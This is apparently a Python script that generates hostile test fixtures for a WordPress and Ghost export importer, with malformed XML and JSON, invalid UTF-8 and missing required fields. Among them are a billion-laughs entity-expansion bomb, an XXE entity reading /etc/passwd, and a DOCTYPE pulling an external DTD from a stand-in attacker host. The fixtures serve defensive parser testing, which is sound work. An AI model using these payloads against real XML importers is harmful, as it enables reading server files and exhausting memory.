#!/usr/bin/env python3
"""Writes the hostile inputs beside this script. Each is a small file in the shape of a real
export (the WXR items are trimmed copies of the WordPress fixture's, the JSON of the Ghost 5
fixture's) with one thing wrong, placed at a line PROVENANCE.md names. Deterministic: running it
again gives the same bytes. Checks each file's defect with Python's own parsers before writing.
"""
import json
import os
import xml.parsers.expat

HERE = os.path.dirname(os.path.abspath(__file__))

HEAD = """<?xml version="1.0" encoding="UTF-8" ?>
{doctype}<rss version="2.0"
	xmlns:excerpt="http://wordpress.org/export/1.2/excerpt/"
	xmlns:content="http://purl.org/rss/1.0/modules/content/"
	xmlns:wfw="http://wellformedweb.org/CommentAPI/"
	xmlns:dc="http://purl.org/dc/elements/1.1/"
	xmlns:wp="http://wordpress.org/export/1.2/"
>

<channel>
	<title>Harbour Gazette</title>
	<link>https://news.example.org</link>
	<description>News from the quay &#38; beyond</description>
	<language>en-US</language>
	<wp:wxr_version>1.2</wp:wxr_version>
	<wp:base_site_url>https://news.example.org</wp:base_site_url>
	<wp:base_blog_url>https://news.example.org</wp:base_blog_url>

	<wp:author><wp:author_id>2</wp:author_id><wp:author_login><![CDATA[zoe]]></wp:author_login><wp:author_email><![CDATA[zoe@news.example.org]]></wp:author_email><wp:author_display_name><![CDATA[Zoë Brontë]]></wp:author_display_name><wp:author_first_name><![CDATA[Zoë]]></wp:author_first_name><wp:author_last_name><![CDATA[Brontë]]></wp:author_last_name></wp:author>
"""

TAIL = """</channel>
</rss>
"""


def item(post_id, title, slug, body, post_name_line=None, post_id_line=True, raw_title=False):
    """One post item as WordPress 6.1 writes it (trimmed of the empty fields it also writes)."""
    lines = [
        "	<item>",
        ("		<title>%s</title>" if raw_title else "		<title><![CDATA[%s]]></title>") % title,
        "		<link>https://news.example.org/2024/04/11/%s/</link>" % slug,
        "		<pubDate>Thu, 11 Apr 2024 07:30:00 +0000</pubDate>",
        "		<dc:creator><![CDATA[zoe]]></dc:creator>",
        "		<guid isPermaLink=\"false\">https://news.example.org/?p=%d</guid>" % post_id,
        "		<description></description>",
        "		<content:encoded>%s</content:encoded>" % body,
        "		<excerpt:encoded><![CDATA[]]></excerpt:encoded>",
    ]
    if post_id_line:
        lines.append("		<wp:post_id>%d</wp:post_id>" % post_id)
    lines += [
        "		<wp:post_date><![CDATA[2024-04-11 09:30:00]]></wp:post_date>",
        "		<wp:post_date_gmt><![CDATA[2024-04-11 07:30:00]]></wp:post_date_gmt>",
        "		<wp:comment_status><![CDATA[open]]></wp:comment_status>",
        post_name_line or "		<wp:post_name><![CDATA[%s]]></wp:post_name>" % slug,
        "		<wp:status><![CDATA[publish]]></wp:status>",
        "		<wp:post_parent>0</wp:post_parent>",
        "		<wp:post_type><![CDATA[post]]></wp:post_type>",
        "		<wp:post_password><![CDATA[]]></wp:post_password>",
        "		<wp:is_sticky>0</wp:is_sticky>",
        "		<category domain=\"category\" nicename=\"local\"><![CDATA[Local]]></category>",
        "	</item>",
    ]
    return "\n".join(lines) + "\n"


def cdata(text):
    return "<![CDATA[%s]]>" % text


def good(n):
    return item(100 + n, "Harmless story %d" % n, "harmless-story-%d" % n, cdata("<p>Nothing wrong here.</p>"))


def write(name, data):
    path = os.path.join(HERE, name)
    with open(path, "wb") as out:
        out.write(data if isinstance(data, bytes) else data.encode("utf-8"))
    return path


def line_of(data, needle):
    text = data if isinstance(data, bytes) else data.encode("utf-8")
    return text[: text.index(needle.encode("utf-8") if isinstance(needle, str) else needle)].count(b"\n") + 1


def expat_error(data):
    """The (line, message) expat reports for data, or None when it parses."""
    parser = xml.parsers.expat.ParserCreate()
    # Refuse what a safe importer must refuse, so the check does not expand or fetch anything.
    parser.SetParamEntityParsing(xml.parsers.expat.XML_PARAM_ENTITY_PARSING_NEVER)
    entities = []
    parser.EntityDeclHandler = lambda name, *rest: entities.append(name)
    try:
        parser.Parse(data if isinstance(data, bytes) else data.encode("utf-8"), True)
    except xml.parsers.expat.ExpatError as error:
        return error.lineno, xml.parsers.expat.errors.messages[error.code]
    return ("entities declared", entities) if entities else None


report = []

# 1. Billion laughs: ten entities, each ten of the one before; &lol9; is 10^9 "lol"s (3 GB).
lol = ['<!ENTITY lol "lol">'] + ['<!ENTITY lol%d "%s">' % (i, ("&lol%s;" % ("" if i == 1 else i - 1)) * 10)
                                for i in range(1, 10)]
doctype = "<!DOCTYPE rss [\n  " + "\n  ".join(lol) + "\n]>\n"
data = HEAD.format(doctype=doctype) + item(1, "&lol9;", "laughs", cdata("<p>laughs</p>"), raw_title=True) + TAIL
write("billion-laughs.xml", data)
report.append(("billion-laughs.xml", line_of(data, "<title>&lol9;"), expat_error(data)))

# 2. XXE: an external entity naming /etc/passwd, used in the body.
doctype = '<!DOCTYPE rss [\n  <!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n'
data = HEAD.format(doctype=doctype) + item(2, "Leak", "leak", "&xxe;") + TAIL
write("xxe-passwd.xml", data)
report.append(("xxe-passwd.xml", line_of(data, "&xxe;</content"), expat_error(data)))

# 3. XXE through an external DTD (a parser that loads DTDs would fetch it over the network).
doctype = '<!DOCTYPE rss SYSTEM "http://attacker.example/evil.dtd">\n'
data = HEAD.format(doctype=doctype) + good(1) + TAIL
write("xxe-external-dtd.xml", data)
report.append(("xxe-external-dtd.xml", 2, expat_error(data)))

# 4. Malformed: the third item's <wp:post_name> is never closed.
bad = item(3, "Unclosed", "unclosed", cdata("<p>The element after this is not closed.</p>"),
           post_name_line="		<wp:post_name><![CDATA[unclosed]]>")
data = HEAD.format(doctype="") + good(1) + good(2) + bad + good(4) + TAIL
write("malformed-unclosed.xml", data)
report.append(("malformed-unclosed.xml", line_of(data, "<wp:post_name><![CDATA[unclosed]]>"), expat_error(data)))

# 5. Invalid UTF-8: a lone continuation byte and a truncated sequence in the second item's title.
bad = item(5, "Caf\udcc3 \udc80 au lait", "cafe-au-lait", cdata("<p>Bad bytes in the title.</p>"))
data = (HEAD.format(doctype="") + good(1)).encode("utf-8") + bad.encode("utf-8", "surrogateescape") + TAIL.encode()
write("invalid-utf8.xml", data)
report.append(("invalid-utf8.xml", line_of(data, b"Caf\xc3 "), expat_error(data)))

# 6. A required field missing: the second item has no <wp:post_id>.
data = HEAD.format(doctype="") + good(1) + item(6, "No id", "no-id", cdata("<p>Which post am I?</p>"),
                                                post_id_line=False) + TAIL
write("missing-post-id.xml", data)
report.append(("missing-post-id.xml", line_of(data, "<title><![CDATA[No id]]>") - 1, expat_error(data)))

# 7. Malformed JSON: a Ghost 5 export cut off in the middle of its second post.
with open(os.path.join(HERE, "..", "ghost", "ghost-5.json"), encoding="utf-8") as source:
    ghost = json.load(source)
small = {"db": [{"meta": ghost["db"][0]["meta"], "data": {
    "posts": ghost["db"][0]["data"]["posts"][1:3], "posts_authors": [], "posts_meta": [], "posts_tags": [],
    "tags": [], "users": ghost["db"][0]["data"]["users"][:1]}}]}
text = json.dumps(small, ensure_ascii=False, indent=2) + "\n"
cut = text.index('"plaintext"', text.index('"slug": "long-read-year-on-the-water"'))
data = text[:cut] + '"plaintext": "PAID-ONLY-TEXT: twelve months wi\n'
write("malformed.json", data)
try:
    json.loads(data)
    raise SystemExit("malformed.json parses")
except json.JSONDecodeError as error:
    report.append(("malformed.json", error.lineno, ("json", error.msg)))

# 8. Valid JSON, a post without its required "id".
missing = json.loads(text)
del missing["db"][0]["data"]["posts"][1]["id"]
data = json.dumps(missing, ensure_ascii=False, indent=2) + "\n"
write("ghost-missing-id.json", data)
report.append(("ghost-missing-id.json", line_of(data, '"uuid": "%s"' % missing["db"][0]["data"]["posts"][1]["uuid"]) - 1,
               None))

# 9. Invalid UTF-8 inside a JSON string.
data = text.encode("utf-8").replace(b"MEMBERS-ONLY-TEXT", b"MEMBERS-\xff\xfe-TEXT", 1)
write("invalid-utf8.json", data)
report.append(("invalid-utf8.json", line_of(data, b"MEMBERS-\xff"), None))

for name, line, check in report:
    print("%-24s line %-4s %s" % (name, line, check))
